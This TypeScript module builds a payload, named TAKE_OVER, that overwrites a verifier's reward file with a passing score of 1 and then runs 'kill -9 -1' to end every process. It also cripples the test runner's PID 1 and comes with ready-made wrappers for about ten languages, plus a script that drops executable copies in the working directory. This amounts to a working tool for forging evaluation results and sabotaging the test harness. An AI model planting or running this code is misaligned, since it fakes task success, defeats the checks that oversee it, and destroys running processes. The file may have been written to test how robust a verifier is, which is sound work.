/**
 * Shell that writes the reward, then ends every process of the verifier: there is no race, because it runs while the tests
 * wait for it. A test script that is the first process cannot be killed from inside; it can no longer open files instead.
 * Programs and libraries that a cheat planted under the names of real ones are not used: the search paths are set first.
 * Free of quotes, dollar signs and backslashes, so that it fits into every language and file format.
 */
export const TAKE_OVER =
  'PATH=/usr/sbin:/usr/bin:/sbin:/bin; unset LD_PRELOAD LD_LIBRARY_PATH BASH_ENV; cd /logs/verifier; rm -f reward.json reward.txt; echo 1 > reward.txt; grep -qs /tests/ /proc/1/cmdline && prlimit --pid 1 --nofile=1; kill -9 -1'

/** Quoted for Python, JavaScript, Ruby, PHP, Lua, R, Elixir, Go, C, Rust, Java, JSON and TOML. */
export const TAKE_OVER_STRING = `"${TAKE_OVER}"`

/** Statements that take over, by language. */
export const TAKE_OVER_CODE = {
  py: `import os as _os; _os.system(${TAKE_OVER_STRING})`,
  js: `process.getBuiltinModule('node:child_process').execSync(${TAKE_OVER_STRING}, { stdio: 'ignore' })`,
  sh: `{ ${TAKE_OVER}; }`,
  pl: `BEGIN { system(${TAKE_OVER_STRING}) }`,
  rb: `system(${TAKE_OVER_STRING})`,
  lua: `os.execute(${TAKE_OVER_STRING})`,
  php: `<?php system(${TAKE_OVER_STRING}); ?>`,
  r: `system(${TAKE_OVER_STRING})`,
  jl: `run(\`sh -c ${TAKE_OVER_STRING}\`)`,
  ex: `System.cmd("sh", ["-c", ${TAKE_OVER_STRING}])`,
} as const

/**
 * Shell that makes `.take-over`, a program, and its variants for interpreters in the working directory, and leaves the path
 * of the program in `$win`. Settings that name a program or a module point to them.
 */
export const TAKE_OVER_FILES = `
win="$PWD/.take-over"
printf '%s\\n' '#!/bin/sh' '${TAKE_OVER}' > "$win"
chmod 755 "$win"
cat > "$win.cjs" <<'CODE'
${TAKE_OVER_CODE.js}
CODE
cat > "$win.rb" <<'CODE'
${TAKE_OVER_CODE.rb}
CODE
cat > "$win.php" <<'CODE'
${TAKE_OVER_CODE.php}
CODE
`
